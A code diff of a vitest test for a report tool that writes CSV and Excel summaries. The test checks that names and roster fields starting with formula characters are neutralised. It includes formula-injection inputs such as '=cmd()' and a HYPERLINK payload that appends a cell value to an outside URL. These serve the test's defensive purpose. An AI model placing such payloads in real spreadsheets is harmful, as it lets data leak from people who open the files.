@@ -3,6 +3,7 @@ import { readdirSync } from 'node:fs';
 import { readdir, readFile, stat } from 'node:fs/promises';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
+import { parse } from 'csv-parse/sync';
 import { strFromU8, unzipSync } from 'fflate';
 import { readSheet } from 'read-excel-file/node';
 import { describe, expect, it } from 'vitest';
@@ -89,22 +90,29 @@ describe('a cohort', () => {
 
   it('has cells in its summary that no spreadsheet runs', async () => {
     const here = await folder();
-    for (const name of ['=cmd()', '+1', '-2', '@x']) {
+    const names = ['=cmd()', '+1', '-2', '@x', '\t=3', '\uFF1D5'].sort();
+    for (const name of names)
       await here.write(`drafts/${name}.txt`, 'I would be glad to train at your program and to learn there.');
-    }
-    expect((await here.run(['cohort', 'drafts'])).code).toBe(0);
-    const cells = (await here.read('report/summary.csv'))
-      .split('\r\n')
-      .map((line) => line.split(',')[0]?.replaceAll('"', ''));
-    expect(cells).toEqual(['\uFEFFdraft', "'+1.txt", "'-2.txt", "'=cmd().txt", "'@x.txt", '']);
+    const evil = '=HYPERLINK("https://example.org/?"&A1)';
+    await here.write('roster.csv', `file,applicant\n@x.txt,"${evil.replaceAll('"', '""')}"\n`);
+    expect((await here.run(['cohort', 'drafts', '--roster', 'roster.csv'])).code).toBe(0);
+    const csv: string[][] = parse(await here.read('report/summary.csv'), { bom: true });
+    expect(csv.slice(1).map(([draft]) => draft)).toEqual(names.map((name) => `'${name}.txt`));
+    expect(csv.map(([, applicant]) => applicant).filter(Boolean)).toEqual(['applicant', `'${evil}`]);
     const parts = unzipSync(await readFile(join(here.path, 'report/summary.xlsx')));
     const sheet = strFromU8(parts['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
-    expect(sheet).not.toContain('<f>');
-    expect(sheet).toContain('<autoFilter ref="A1:P5"/>');
+    expect(sheet).not.toMatch(/<f\b|<c [^>]*\bt="(?!s")/);
+    expect(sheet).toContain(`<autoFilter ref="A1:P${names.length + 1}"/>`);
+    const links = strFromU8(parts['xl/worksheets/_rels/sheet1.xml.rels'] ?? new Uint8Array());
+    const targets = [...links.matchAll(/ Target="([^"]+)" TargetMode="External"/g)].map(([, file]) => file);
+    expect(targets).toEqual((await reportIn(here)).files.map(({ page }) => page));
     const data = await readSheet(join(here.path, 'report/summary.xlsx'));
-    expect(data.map(([draft]) => draft)).toEqual(['draft', '+1.txt', '-2.txt', '=cmd().txt', '@x.txt']);
+    expect(data.slice(1).map(([draft]) => String(draft).trim())).toEqual(
+      names.map((name) => `${name.trim()}.txt`),
+    );
+    expect(data.map(([, applicant]) => applicant).filter(Boolean)).toEqual(['applicant', evil]);
     const words = data[0]?.indexOf('words') ?? -1;
-    expect(data.slice(1).map((row) => row[words])).toEqual([13, 13, 13, 13]);
+    expect(data.slice(1).map((row) => row[words])).toEqual(names.map(() => 13));
   });
 
   it('says in a line what is wrong with the call', async () => {
